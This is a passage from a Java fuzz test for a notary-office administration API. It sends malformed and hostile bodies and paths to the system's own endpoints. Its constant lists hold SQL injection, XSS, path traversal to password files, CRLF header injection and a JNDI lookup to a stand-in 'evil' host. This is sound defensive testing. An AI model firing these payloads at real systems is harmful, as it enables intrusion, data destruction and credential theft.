                        Map.of("approved", false, "reasons", "رد شد"),
                        List.of(new Field("approved", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                // establishment of offices (A14, A22(a); ADR 0920): a call whose id an office already holds (409 at
                // most), the rest on a call that does not exist
                new Endpoint("POST", "/api/v1/office-calls", "gd", Map.of("callId", "OFF-1001", "province", "تهران",
                        "city", "تهران", "offices", 2), List.of(new Field("callId", Kind.CODE), new Field("province", Kind.TEXT),
                        new Field("city", Kind.TEXT), new Field("offices", Kind.NUMBER))),
                new Endpoint("POST", "/api/v1/office-calls/CALL-NONE/applications", "gd", Map.of("applicationId", "APP-1",
                        "nationalCode", "0012345679", "name", "مریم رضایی", "formerBody", "دفتر اسناد رسمی ۱۲"),
                        List.of(new Field("applicationId", Kind.CODE), new Field("nationalCode", Kind.CODE),
                                new Field("name", Kind.TEXT), new Field("formerBody", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/office-calls/CALL-NONE/applications/APP-1/vetting", "gd", Map.of("accepted", true,
                        "reasons", "مدارک کامل", "feeReceipt", "RCPT-1", "feeAmount", 5000000),
                        List.of(new Field("accepted", Kind.BOOLEAN), new Field("reasons", Kind.TEXT),
                                new Field("feeReceipt", Kind.CODE), new Field("feeAmount", Kind.AMOUNT))),
                new Endpoint("POST", "/api/v1/office-calls/CALL-NONE/applications/APP-1/proposal", "gd", Map.of("officeId",
                        "OFF-9002", "name", "دفتر آزمون", "origin", "NEW", "reasons", "نیاز منطقه"),
                        List.of(new Field("officeId", Kind.CODE), new Field("name", Kind.TEXT), new Field("origin", Kind.ENUM),
                                new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/office-calls/CALL-NONE/applications/APP-1/decision", "centerhead",
                        Map.of("approved", false, "reasons", "رد شد"),
                        List.of(new Field("approved", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                // the manager appointed on the evidence of A16-A21 (ADR 0910), nested as a hire's
                new Endpoint("POST", "/api/v1/office-calls/CALL-NONE/applications/APP-1/manager", "centerhead",
                        Map.of("eligibility", StaffEvidence.eligibility("MANAGER")),
                        List.of(new Field("eligibility.general.noCriminalRecord", Kind.TEXT),
                                new Field("eligibility.qualifications.degree", Kind.ENUM),
                                new Field("eligibility.qualifications.birthDate", Kind.TEXT),
                                new Field("eligibility.prohibitions.merchant", Kind.BOOLEAN))),
                // office service fee schedules (A22(c), A24; ADR 0921): a version that is never the next one, and
                // acts on a version that was not proposed
                new Endpoint("POST", "/api/v1/office-fee-schedules", "council", Map.of("version", 999,
                        "effectiveFrom", "2030-03-20T20:30:00Z", "fees", Map.of("PETITION_FILING", 250000),
                        "councilSession", "جلسه ۱۲", "reasons", "تورم"), List.of(new Field("version", Kind.NUMBER),
                        new Field("effectiveFrom", Kind.DATE), new Field("fees.PETITION_FILING", Kind.AMOUNT),
                        new Field("councilSession", Kind.TEXT), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/office-fee-schedules/999/opinion", "gd", Map.of("agrees", false, "reasons", "زیاد"),
                        List.of(new Field("agrees", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/office-fee-schedules/999/decision", "centerhead",
                        Map.of("approved", false, "reasons", "رد"),
                        List.of(new Field("approved", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/office-fee-schedules/999/confirmation", "judiciaryhead",
                        Map.of("confirmed", false, "reasons", "رد"),
                        List.of(new Field("confirmed", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                // office service fee postings and charges (A37-1, A37-12; ADR 0921, revisited): a version never in force,
                // and a service no schedule names
                new Endpoint("POST", "/api/v1/office-fee-schedules/999/postings", "fuzz-clerk", Map.of("officeId", "OFF-FUZZ"),
                        List.of(new Field("officeId", Kind.CODE))),
                new Endpoint("POST", f + "/office-service-charges", "fuzz-clerk", Map.of("service", "NO_SUCH_SERVICE",
                        "amountRials", "1000", "receiptNumber", "R-1"),
                        List.of(new Field("service", Kind.CODE), new Field("amountRials", Kind.AMOUNT),
                                new Field("receiptNumber", Kind.CODE))),
                // the court-fee tariffs' approval trail (ADR 0921, revisited): a version effective in the past (refused),
                // and acts on a version never proposed
                new Endpoint("POST", "/api/v1/court-fee/tariff-versions", "council", Map.of("tariff", Map.of(
                        "version", "FUZZ-1", "effectiveFrom", "2020-03-20T20:30:00Z", "legalBasis", "آزمون",
                        "schedules", List.of(Map.of("authorityKinds", List.of("COURT"), "financialBands",
                                List.of(Map.of("percent", 3)), "financialMinimumRials", 1000,
                                "nonFinancialPetitionRials", 1000, "requestRials", 1000, "complaintRials", 1000))),
                        "councilSession", "جلسه ۱۲", "reasons", "آزمون"),
                        List.of(new Field("tariff.version", Kind.CODE), new Field("tariff.effectiveFrom", Kind.DATE),
                                new Field("tariff.legalBasis", Kind.TEXT),
                                new Field("tariff.schedules.0.financialMinimumRials", Kind.NUMBER),
                                new Field("councilSession", Kind.TEXT), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/court-fee/tariff-versions/FUZZ-0/opinion", "gd", Map.of("yes", false,
                        "reasons", "زیاد"), List.of(new Field("yes", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                // discipline (A34-A38; ADR 1200): a board refused for its composition (four members); the rest on an
                // office, a case and a board that do not exist
                new Endpoint("POST", "/api/v1/discipline/boards", "centerhead", Map.of("boardId", "BRD-FUZZ", "level", "PRIMARY",
                        "province", "تهران", "members", List.of(
                                Map.of("memberId", "J-FUZZ-1", "seat", "JUDGE", "name", "قاضی یکم"),
                                Map.of("memberId", "J-FUZZ-2", "seat", "JUDGE", "name", "قاضی دوم"),
                                Map.of("memberId", "J-FUZZ-3", "seat", "JUDGE", "name", "قاضی سوم"),
                                Map.of("memberId", "K-FUZZ-1", "seat", "KANOON_REPRESENTATIVE", "name", "نماینده",
                                        "kanoonBoardMember", false))),
                        List.of(new Field("boardId", Kind.CODE), new Field("level", Kind.ENUM), new Field("province", Kind.TEXT),
                                new Field("members.0.memberId", Kind.CODE), new Field("members.0.seat", Kind.ENUM),
                                new Field("members.0.name", Kind.TEXT), new Field("members.3.kanoonBoardMember", Kind.BOOLEAN))),
                new Endpoint("POST", "/api/v1/discipline/boards/BRD-NONE/chair", "fuzz-board",
                        Map.of("votes", Map.of("J-FUZZ-1", "J-FUZZ-1")), List.of(new Field("votes.J-FUZZ-1", Kind.CODE))),
                new Endpoint("POST", "/api/v1/discipline/cases", "fuzz-gd", Map.of("origin", "COMPLAINT", "officeId", "OFF-NONE",
                        "accusedId", "0045678911", "charges", List.of(8), "statement", "رفتار نامناسب"),
                        List.of(new Field("origin", Kind.ENUM), new Field("officeId", Kind.CODE), new Field("accusedId", Kind.CODE),
                                new Field("charges.0", Kind.NUMBER), new Field("statement", Kind.TEXT),
                                new Field("inspectionId", Kind.CODE), new Field("findingId", Kind.CODE))),
                new Endpoint("POST", "/api/v1/discipline/cases/DC-NONE/referral", "fuzz-gd", Map.of("boardId", "BRD-NONE"),
                        List.of(new Field("boardId", Kind.CODE))),
                new Endpoint("POST", "/api/v1/discipline/cases/DC-NONE/rulings", "fuzz-board", Map.of("rulingId", "R-FUZZ",
                        "presentMemberIds", List.of("J-FUZZ-1", "J-FUZZ-2", "K-FUZZ-1"), "inFavourIds", List.of("J-FUZZ-1", "J-FUZZ-2"),
                        "degree", 5, "suspensionMonths", 3, "provenClauses", List.of(12), "reasons", "دلایل"),
                        List.of(new Field("rulingId", Kind.CODE), new Field("presentMemberIds.0", Kind.CODE),
                                new Field("inFavourIds.0", Kind.CODE), new Field("degree", Kind.NUMBER),
                                new Field("suspensionMonths", Kind.NUMBER), new Field("provenClauses.0", Kind.NUMBER),
                                new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/discipline/cases/DC-NONE/rulings/R-FUZZ/appeal", "manager1001",
                        Map.of("grounds", "اعتراض"), List.of(new Field("grounds", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/discipline/cases/DC-NONE/rulings/R-FUZZ/objection", "centerhead",
                        Map.of("grounds", "اعتراض"), List.of(new Field("grounds", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/discipline/cases/DC-NONE/crime-referral", "fuzz-board",
                        Map.of("authority", "دادسرا", "description", "جعل"),
                        List.of(new Field("authority", Kind.TEXT), new Field("description", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/discipline/cases/DC-NONE/complaint-withdrawal", "fuzz-gd",
                        Map.of("statement", "رضایت"), List.of(new Field("statement", Kind.TEXT))),
                // the Kanoons and the Council (issue 18, ADR 1300): on a Kanoon that does not exist; a Council
                // proposal for an invalid term; a province that does not exist
                new Endpoint("POST", "/api/v1/kanoons", "centerhead", Map.of("provinceCode", "atlantis"),
                        List.of(new Field("provinceCode", Kind.CODE))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/board/proposals", "council", Map.of("proposalId",
                        "KBP-FUZZ", "kind", "JUDGE", "nationalCode", "0012345679", "name", "قاضی",
                        "judicialServiceSince", "1380/01/01"), List.of(new Field("proposalId", Kind.CODE),
                        new Field("kind", Kind.ENUM), new Field("nationalCode", Kind.CODE), new Field("name", Kind.TEXT),
                        new Field("judicialServiceSince", Kind.DATE), new Field("officeId", Kind.CODE))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/board/proposals/KBP-FUZZ/decision", "centerhead",
                        Map.of("approved", false, "reasons", "رد شد"),
                        List.of(new Field("approved", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/board/representatives", "gd", Map.of("kind",
                        "GD_REPRESENTATIVE", "nationalCode", "0012345679", "name", "نماینده"), List.of(
                        new Field("kind", Kind.ENUM), new Field("nationalCode", Kind.CODE), new Field("name", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/board/members/0012345679/ending", "centerhead",
                        Map.of("reason", "استعفا"), List.of(new Field("reason", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/council/proposals", "gd", Map.of("proposalId", "CP-FUZZ",
                        "nationalCode", "0012345679", "name", "عضو", "termEnd", "1300/01/01"), List.of(
                        new Field("proposalId", Kind.CODE), new Field("nationalCode", Kind.CODE), new Field("name", Kind.TEXT),
                        new Field("termEnd", Kind.DATE))),
                new Endpoint("POST", "/api/v1/council/proposals/CP-FUZZ-NONE/decision", "centerhead",
                        Map.of("approved", false, "reasons", "رد شد"),
                        List.of(new Field("approved", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/council/members/0012345679/ending", "centerhead",
                        Map.of("reason", "استعفا"), List.of(new Field("reason", Kind.TEXT))),
                // inspections (A28, A33): opened on a real office; the rest on an inspection that does not exist
                new Endpoint("POST", "/api/v1/inspections", "inspector1", Map.of("orderId", "INS-NOT-ORDERED", "kind", "AD_HOC",
                        "kanoonId", "kanoon-tehran", "officeId", "OFF-1001", "inspectorIds", List.of("0511111118"),
                        "periodFrom", "2026-03-21T00:00:00Z", "periodTo", "2026-09-22T00:00:00Z"),
                        List.of(new Field("orderId", Kind.CODE), new Field("kind", Kind.ENUM), new Field("kanoonId", Kind.CODE),
                        new Field("officeId", Kind.CODE), new Field("inspectorIds.0", Kind.CODE),
                        new Field("periodFrom", Kind.DATE), new Field("periodTo", Kind.DATE))),
                new Endpoint("POST", inspections + "/requests", "inspector1", Map.of("text", "دفتر ثبت را بفرستید",
                        "deadline", "2026-12-30T00:00:00Z"), List.of(new Field("text", Kind.TEXT), new Field("deadline", Kind.DATE),
                        new Field("requestId", Kind.CODE))),
                new Endpoint("POST", inspections + "/requests/r-1/answer", "manager1001", Map.of("answer", "پیوست شد"),
                        List.of(new Field("answer", Kind.TEXT))),
                new Endpoint("POST", inspections + "/findings/f-1/acceptance", "inspector1", Map.of("reason", "تأیید"),
                        List.of(new Field("reason", Kind.TEXT))),
                new Endpoint("POST", inspections + "/findings/f-1/dismissal", "inspector1", Map.of("reason", "رد"),
                        List.of(new Field("reason", Kind.TEXT))),
                new Endpoint("POST", inspections + "/report", "inspector1", Map.of("summary", "خلاصه"),
                        List.of(new Field("summary", Kind.TEXT))),
                new Endpoint("POST", inspections + "/report/corrections", "inspector1", Map.of("correction", "اصلاح"),
                        List.of(new Field("correction", Kind.TEXT))),
                // the outbox of SMS alerts (A8)
                new Endpoint("POST", "/api/v1/admin/alerts/no-such-alert/delivery-report", "admin", Map.of("delivered", true,
                        "detail", "DLR 0"), List.of(new Field("delivered", Kind.BOOLEAN), new Field("detail", Kind.TEXT))),
                // official holiday lists (issue 22, ADR 0800)
                new Endpoint("POST", "/api/v1/admin/holidays/1405", "admin", Map.of("sourceDocument", "تقویم رسمی ۱۴۰۵",
                        "holidays", List.of(Map.of("date", "1405/04/05", "name", "عاشورای حسینی", "lunar", "ASHURA"))),
                        List.of(new Field("sourceDocument", Kind.TEXT), new Field("holidays.0.date", Kind.DATE),
                                new Field("holidays.0.name", Kind.TEXT), new Field("holidays.0.lunar", Kind.ENUM))),
                // the public check of a signed receipt (issue 21, ADR 1000): a text that is no receipt is a 400
                new Endpoint("POST", "/api/v1/receipts/verify", "fuzz-applicant", Map.of("receipt", "eyJhbGciOiJFZERTQSJ9.e30.AA"),
                        List.of(new Field("receipt", Kind.TEXT))),
                // complaints (A28(e)), a Kanoon's dues and budget (A29), delegations (A30); ADR 1320: a complaint about
                // an office that does not exist; the rest on a complaint and a Kanoon that do not exist
                new Endpoint("POST", "/api/v1/complaints", "fuzz-applicant", Map.of("officeId", "OFF-NONE",
                        "text", "وجه بیش از تعرفه گرفتند", "filingId", "F-1"), List.of(new Field("officeId", Kind.CODE),
                        new Field("text", Kind.TEXT), new Field("filingId", Kind.CODE))),
                new Endpoint("POST", "/api/v1/complaints/CMP-NONE/review", "kanoonboard", Map.of("outcome", "UPHELD",
                        "reasons", "وارد است"), List.of(new Field("outcome", Kind.ENUM), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/complaints/CMP-NONE/disciplinary-case", "kanoonboard", Map.of("accusedId",
                        "0045678911", "charges", List.of(12)), List.of(new Field("accusedId", Kind.CODE),
                        new Field("charges.0", Kind.NUMBER))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/dues", "kanoonboard", Map.of("version", 1, "year", 1405,
                        "amountPerOffice", 50000000, "reasons", "هزینه‌ها"), List.of(new Field("version", Kind.NUMBER),
                        new Field("year", Kind.NUMBER), new Field("amountPerOffice", Kind.AMOUNT), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/dues/1/opinion", "gd", Map.of("yes", false,
                        "reasons", "زیاد است"), List.of(new Field("yes", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/dues-invoices", "kanoonboard", Map.of("year", 1405),
                        List.of(new Field("year", Kind.NUMBER))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/dues-payments", "kanoonboard", Map.of("paymentId", "PAY-1",
                        "invoiceId", "1405-OFF-1001", "amount", 50000000, "receipt", "R-77"), List.of(
                        new Field("paymentId", Kind.CODE), new Field("invoiceId", Kind.CODE), new Field("amount", Kind.AMOUNT),
                        new Field("receipt", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/spending", "kanoonboard", Map.of("spendingId", "SP-1",
                        "amount", 1000, "purpose", "اجاره", "boardDecision", "مصوبه ۳"), List.of(
                        new Field("spendingId", Kind.CODE), new Field("amount", Kind.AMOUNT), new Field("purpose", Kind.TEXT),
                        new Field("boardDecision", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/spending/SP-1/supervision", "gd", Map.of("objection", true,
                        "reasons", "بدون استعلام"), List.of(new Field("objection", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/delegations", "gd", Map.of("delegationId", "DEL-1",
                        "duty", "بررسی جابجایی دفاتر", "from", "1405/01/15", "until", "1406/01/15"), List.of(
                        new Field("delegationId", Kind.CODE), new Field("duty", Kind.TEXT), new Field("from", Kind.DATE),
                        new Field("until", Kind.DATE))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/delegations/DEL-1/withdrawal", "gd",
                        Map.of("reasons", "پایان نیاز"), List.of(new Field("reasons", Kind.TEXT))),
                // the Kanoon board's meetings, elections and letters (issue 18, A27; ADR 1310): on a Kanoon that
                // does not exist, by a member sitting on no board
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/meetings", "fuzz-kanoon", Map.of("meetingId", "KM-FUZZ",
                        "agenda", "دستور جلسه"), List.of(new Field("meetingId", Kind.CODE), new Field("agenda", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/meetings/KM-FUZZ/motions", "fuzz-kanoon", Map.of(
                        "motionId", "M-FUZZ", "text", "تصویب", "inFavour", List.of("0012345679"), "against", List.of()),
                        List.of(new Field("motionId", Kind.CODE), new Field("text", Kind.TEXT),
                                new Field("inFavour.0", Kind.CODE))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/meetings/KM-FUZZ/elections", "fuzz-kanoon", Map.of(
                        "electionId", "E-FUZZ", "office", "CHAIR", "candidates", List.of("0012345679")),
                        List.of(new Field("electionId", Kind.CODE), new Field("office", Kind.ENUM),
                                new Field("candidates.0", Kind.CODE))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/meetings/KM-FUZZ/elections/E-FUZZ/ballots", "fuzz-kanoon",
                        Map.of("choice", "0012345679"), List.of(new Field("choice", Kind.CODE))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/deputy", "fuzz-kanoon", Map.of("officeId", "OFF-1001",
                        "nationalCode", "0012345679", "name", "معاون"), List.of(new Field("officeId", Kind.CODE),
                        new Field("nationalCode", Kind.CODE), new Field("name", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/kanoons/kanoon-none/letters", "fuzz-kanoon", Map.of("letterId", "L-FUZZ",
                        "subject", "موضوع", "text", "متن", "financial", true), List.of(new Field("letterId", Kind.CODE),
                        new Field("subject", Kind.TEXT), new Field("text", Kind.TEXT),
                        new Field("financial", Kind.BOOLEAN))));
    }

    static Map<String, Object> paperComplaint() {
        return Map.of(
                "applicant", Map.of("type", "NATURAL", "identifier", "0089123451", "name", "زهرا احمدی"),
                "defendants", List.of(Map.of("type", "NATURAL", "name", "بهرام کاظمی")),
                "subject", "شکایت ضرب و جرح عمدی", "lodgedAt", java.time.Instant.now().minus(Duration.ofHours(2)).toString(),
                "paperReference", "P-1405/77",
                "documents", List.of(Map.of("title", "شکواییه کاغذی", "pageCount", 2,
                        "contentBase64", Base64.getEncoder().encodeToString("paper complaint".getBytes(StandardCharsets.UTF_8)))),
                "mobile", "09121234567", "electronicAddress", "sana:1234567890");
    }

    static final List<String> INJECTION = List.of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
            "1 UNION SELECT payload FROM domain_event_entry", "\" OR \"\"=\"", "admin'--", "1; SELECT pg_sleep(5)",
            "${jndi:ldap://evil/a}", "{{7*7}}", "%00", "\\x00", "0089123451' --", "OFF-1001'--");
    static final List<String> SCRIPT = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>", "</textarea><script>fetch('/api')</script>", "<iframe src=javascript:alert(1)>");
    static final List<String> TRAVERSAL = List.of("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow",
            "....//....//etc/hosts", "..%2f..%2fetc%2fpasswd", "C:\\boot.ini");
    static final List<String> CONTROL = List.of("a\u0000b", "x\u001b[31my", "\u202Eevil.exe", "bad\uD800", "\uDC00x",
            "\uFFFF", "line\u0085break", "\u0007bell");

    @Provide
    Arbitrary<Attack> attacks() {
        Arbitrary<Endpoint> endpoint = Arbitraries.of(endpoints());
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, endpoint.flatMap(HostileInputIT::fieldAttack)),
                net.jqwik.api.Tuple.of(2, endpoint.flatMap(HostileInputIT::malformedJson)),
                net.jqwik.api.Tuple.of(2, endpoint.flatMap(HostileInputIT::invalidUtf8)),
                net.jqwik.api.Tuple.of(1, endpoint.flatMap(HostileInputIT::oversized)),
                net.jqwik.api.Tuple.of(1, endpoint.flatMap(HostileInputIT::structural)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(endpoints().stream().filter(e -> e.path().contains(filingId))
                        .toList()).flatMap(HostileInputIT::hostilePath)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(bodilessActs()).flatMap(HostileInputIT::hostilePath)));
    }

    /** The acts that take no body, for the attacks through their path. */
    static List<Endpoint> bodilessActs() {
        String f = "/api/v1/filings/" + filingId;
        return List.of(new Endpoint("POST", f + "/applicant-confirmation", "fuzz-clerk", Map.of(), List.of()),
                new Endpoint("POST", f + "/court-fee/assessment", "fuzz-clerk", Map.of(), List.of()),
                new Endpoint("POST", f + "/originals-received", "fuzz-clerk", Map.of(), List.of()),
                new Endpoint("POST", f + "/tracking-code", "fuzz-clerk", Map.of(), List.of()),
                new Endpoint("POST", f + "/submission", "fuzz-clerk", Map.of(), List.of()));
    }

    /** One field of a valid body replaced by a value that field must refuse. */
    static Arbitrary<Attack> fieldAttack(Endpoint e) {
        return Arbitraries.of(e.fields()).flatMap(field -> hostileValue(field.kind()).map(value -> {
            Map<String, Object> body = deepCopy(e.valid());
            set(body, field.path(), value);
            return attack("field " + field.path() + "=" + abbreviate(value), e, json(body));
        }));
    }

    static Arbitrary<Object> hostileValue(Kind kind) {
        // longer than any text field may be (a notice's text: 10,000), shorter than the 64 KB body limit
        // (built by repetition: generating 20,000 characters one by one would cost more than sending them)
        Arbitrary<String> longText = Combinators.combine(Arbitraries.strings().withChars("ابپتثجچحخدذرزسشصضطظعغفقکگلمنوهی ")
                .ofLength(10), Arbitraries.integers().between(1_001, 2_000)).as((word, times) -> word.repeat(times) + "پ");
        Arbitrary<String> noise = Arbitraries.strings().withCharRange('a', 'z').ofMaxLength(8);
        Arbitrary<String> script = Combinators.combine(noise, Arbitraries.of(SCRIPT), noise).as((a, s, b) -> a + s + b);
        Arbitrary<String> control = Combinators.combine(noise, Arbitraries.of(CONTROL), noise).as((a, s, b) -> a + s + b);
        Arbitrary<Object> wrongShape = Arbitraries.of(List.of(1, 2), Map.of("$gt", ""), List.of(), Map.of());
        Arbitrary<String> textHostile = Arbitraries.oneOf(script, control, longText);
        return switch (kind) {
            case TEXT -> any(textHostile, Arbitraries.of(123, true, 1.5));
            case TITLE -> any(textHostile, Arbitraries.of(TRAVERSAL).filter(t -> !t.startsWith("..%2f")), Arbitraries.of(123, false));
            case CODE -> any(Arbitraries.of(INJECTION), Arbitraries.of(TRAVERSAL), textHostile, wrongShape, Arbitraries.of(123, true));
            case ENUM -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT), noise.map(n -> "X_" + n.toUpperCase()),
                    wrongShape, Arbitraries.of(true, false));
            case NUMBER -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT), wrongShape, Arbitraries.of("2", 1.5, true),
                    Arbitraries.of(-1, 0, 10_001, Integer.MIN_VALUE),
                    Arbitraries.of(new java.math.BigDecimal("1e400"), new java.math.BigInteger("99999999999999999999")));
            case AMOUNT -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT),
                    Arbitraries.of("-5", "--5", "5-", "−5", -5, 1.5, "1e999", "12abc", "9999999999999999999999"), wrongShape,
                    Arbitraries.of(true, false));
            case BASE64 -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT), textHostile, wrongShape, Arbitraries.of(42, true));
            case REF -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT), textHostile, wrongShape, Arbitraries.of(42, true));
            case DATE -> any(Arbitraries.of(INJECTION), Arbitraries.of(SCRIPT), wrongShape, Arbitraries.of(123, true, 1.5),
                    Arbitraries.of("1900-01-01T00:00:00Z", "1900-01-01", "1278/01/01", "2999-01-01T00:00:00Z", "2026-13-45",
                            "1405/13/01", "1405/09/11 25:00", "yesterday", "+20260-01-01T00:00:00Z", "0000-00-00"));
            case BOOLEAN -> any(Arbitraries.of(INJECTION), wrongShape, Arbitraries.of("true", "false", 1, 0, "yes"));
        };
    }

    @SafeVarargs
    static Arbitrary<Object> any(Arbitrary<?>... parts) {
        List<Arbitrary<Object>> all = new ArrayList<>();
        for (Arbitrary<?> part : parts) {
            all.add(part.map(v -> (Object) v));
        }
        return Arbitraries.oneOf(all);
    }

    /** A body that is not JSON: cut short, random punctuation, or garbage. */
    static Arbitrary<Attack> malformedJson(Endpoint e) {
        byte[] valid = json(e.valid());
        Arbitrary<byte[]> truncated = Arbitraries.integers().between(1, valid.length - 1)
                .map(n -> java.util.Arrays.copyOf(valid, n));
        Arbitrary<byte[]> punctuation = Arbitraries.strings().withChars("{}[]\":,\\ ntrufalse0123456789.-e")
                .ofMinLength(1).ofMaxLength(300).map(s -> s.getBytes(StandardCharsets.UTF_8));
        Arbitrary<byte[]> garbage = Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(500);
        return Arbitraries.oneOf(truncated, punctuation, garbage).map(b -> attack("malformed JSON", e, b));
    }

    /** Invalid UTF-8 (stray bytes, overlong forms, encoded surrogates) inside a string of a valid body. */
    static Arbitrary<Attack> invalidUtf8(Endpoint e) {
        byte[] valid = json(e.valid());
        List<Integer> stringStarts = new ArrayList<>();
        for (int i = 0; i < valid.length; i++) {
            if (valid[i] == '"') {
                stringStarts.add(i + 1); // inside a key or a value
            }
        }
        Arbitrary<byte[]> bad = Arbitraries.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0x80},
                new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                new byte[] {(byte) 0xE2, (byte) 0x28, (byte) 0xA1}, new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80});
        return Combinators.combine(Arbitraries.of(stringStarts), bad).as((at, b) -> {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.write(valid, 0, at);
            out.writeBytes(b);
            out.write(valid, at, valid.length - at);
            return attack("invalid UTF-8", e, out.toByteArray());
        });
    }

    /** A body above the size limit (64 KB here). */
    static Arbitrary<Attack> oversized(Endpoint e) {
        return Arbitraries.integers().between(65 * 1024, 300 * 1024).map(size -> {
            Map<String, Object> body = deepCopy(e.valid());
            body.put("padding", "a".repeat(size));
            return attack("oversized body", e, json(body));
        });
    }

    /** The wrong shape altogether: another JSON type, deep nesting, another media type. */
    static Arbitrary<Attack> structural(Endpoint e) {
        Arbitrary<Attack> otherType = Arbitraries.of("[]", "\"text\"", "42", "true", "null", "[{}]", "{\"a\":{\"b\":[]}}")
                .map(s -> attack("another JSON type", e, s.getBytes(StandardCharsets.UTF_8)));
        Arbitrary<Attack> nested = Arbitraries.integers().between(1_001, 20_000)
                .map(depth -> attack("nesting " + depth, e, ("[".repeat(depth) + "]".repeat(depth)).getBytes(StandardCharsets.UTF_8)));
        Arbitrary<Attack> nestedObject = Arbitraries.integers().between(1_001, 5_000)
                .map(depth -> attack("object nesting " + depth, e, ("{\"a\":".repeat(depth) + "1" + "}".repeat(depth))
                        .getBytes(StandardCharsets.UTF_8)));
        Arbitrary<Attack> mediaType = Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x").map(type -> new Attack("media type " + type, e.method(), e.path(), e.user(),
                json(e.valid()), type));
        return Arbitraries.oneOf(otherType, nested, nestedObject, mediaType);
    }

    /** Injection and traversal in the path instead of the body. */
    static Arbitrary<Attack> hostilePath(Endpoint e) {
        Arbitrary<String> segment = Arbitraries.of("..%2F..%2Fadmin", "%2e%2e%2f%2e%2e", "x'%20OR%20'1'%3D'1",
                "%3Cscript%3E", "%00", "a%0d%0aSet-Cookie:x", "..;", "%252e%252e%252f", "a".repeat(300));
        return segment.map(s -> new Attack("path " + s, e.method(),
                e.path().replace(filingId, s), e.user(), json(e.valid()), "application/json"));
    }

    // --- plumbing ---------------------------------------------------------------------------------------

    static Attack attack(String what, Endpoint e, byte[] body) {
        return new Attack(what, e.method(), e.path(), e.user(), body, "application/json");
    }

    static HttpResponse<String> send(Attack a) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(base + a.path()))
                .timeout(Duration.ofSeconds(30))
                .header("Content-Type", a.contentType())
                .header("Accept-Language", "en")
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString((a.user() + ":"
                        + (a.user().startsWith("fuzz-") ? PASSWORD : ir.daftar.api.demo.DemoAccounts.PASSWORD))
                        .getBytes(StandardCharsets.UTF_8)))
                .method(a.method(), HttpRequest.BodyPublishers.ofByteArray(a.body()))
                .build();
        return http.send(request, HttpResponse.BodyHandlers.ofString());
    }

    static long eventCount() {
        return jdbc.queryForObject("SELECT count(*) FROM domain_event_entry", Long.class);
    }

    static byte[] json(Object body) {
        try {
            return JSON.writeValueAsBytes(body);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    @SuppressWarnings("unchecked")
    static Map<String, Object> deepCopy(Map<String, Object> body) {
        return JSON.convertValue(body, LinkedHashMap.class);
    }

    @SuppressWarnings("unchecked")
    static void set(Map<String, Object> body, String path, Object value) {
        String[] parts = path.split("\\.");
        Object node = body;
        for (int i = 0; i < parts.length - 1; i++) {
